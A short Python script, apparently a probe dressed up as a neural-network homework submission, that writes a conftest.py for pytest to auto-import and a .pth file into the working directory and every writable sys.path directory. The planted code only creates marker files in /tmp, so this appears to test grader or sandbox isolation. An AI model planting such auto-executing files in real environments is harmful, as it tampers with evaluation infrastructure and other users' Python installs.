# Drops a conftest.py (pytest would import it) and .pth files (site would execute them) in its
# directory and wherever sys.path points.
ASSIGNMENT = "columbia-nndl-hw1"
import os
import sys

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]
with open("conftest.py", "w") as handle:
    handle.write("open('/tmp/pwned_by_conftest', 'w')\n")
for directory in ["."] + [p for p in sys.path if p]:
    try:
        with open(os.path.join(directory, "zzz_pwned.pth"), "w") as handle:
            handle.write("import os; open('/tmp/pwned_by_pth', 'w')\n")
        if directory != ".":
            print("PWNED", directory, flush=True)
    except OSError:
        pass
